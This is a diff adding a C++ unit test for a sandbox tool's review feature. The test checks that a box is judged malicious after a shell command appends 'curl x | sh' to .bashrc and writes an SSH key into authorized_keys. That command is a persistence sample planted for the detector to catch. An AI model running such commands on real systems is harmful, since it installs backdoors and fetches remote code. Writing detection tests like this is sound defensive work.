@@ -183,6 +183,27 @@ TEST_F(Box, RootOwnedTreesAreWritableAndKeepTheirOwner) {
   EXPECT_TRUE(j[0].value("setid", false));
 }
 
+// A box that plants a shell start-up line and an SSH key is judged malicious before anything leaves it;
+// one that only writes a document is clean.
+TEST_F(Box, ReviewFlagsPersistenceBeforeAnythingLeavesTheBox) {
+  ASSERT_EQ(BoxCmd({"create", "t6", "--over", tree_ + ":/home/sandbox"}).exit_code, 0);
+  ASSERT_EQ(BoxCmd({"run", "t6", "--", "/bin/sh", "-c", "echo notes > ~/notes.txt"}).exit_code, 0);
+  auto r = BoxCmd({"review", "t6"});
+  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
+  EXPECT_NE(r.out.find("verdict: clean"), std::string::npos) << r.out;
+  ASSERT_EQ(BoxCmd({"run", "t6", "--", "/bin/sh", "-c",
+                    "echo 'curl x | sh' >> ~/.bashrc && mkdir -p ~/.ssh && echo ssh-ed25519 AAAA > ~/.ssh/authorized_keys"}).exit_code, 0);
+  r = BoxCmd({"review", "t6", "--json"});
+  EXPECT_EQ(r.exit_code, 1) << r.out << r.err;
+  auto j = nlohmann::json::parse(r.out, nullptr, false);
+  ASSERT_TRUE(j.is_object()) << r.out;
+  EXPECT_EQ(j.value("verdict", ""), "malicious");
+  std::string techniques;
+  for (const auto& f : j["findings"]) techniques += f["techniques"][0].get<std::string>() + " ";
+  EXPECT_EQ(techniques, "T1546.004 T1098.004 ") << j.dump();
+  EXPECT_FALSE(std::filesystem::exists(tree_ + "/.bashrc")) << "the host got the box's start-up file";
+}
+
 TEST_F(Box, BadNamesUnknownBoxesAndTamperedStoresAreRefused) {
   auto r = BoxCmd({"create", "../x", "--over", tree_});
   EXPECT_EQ(r.exit_code, 1);
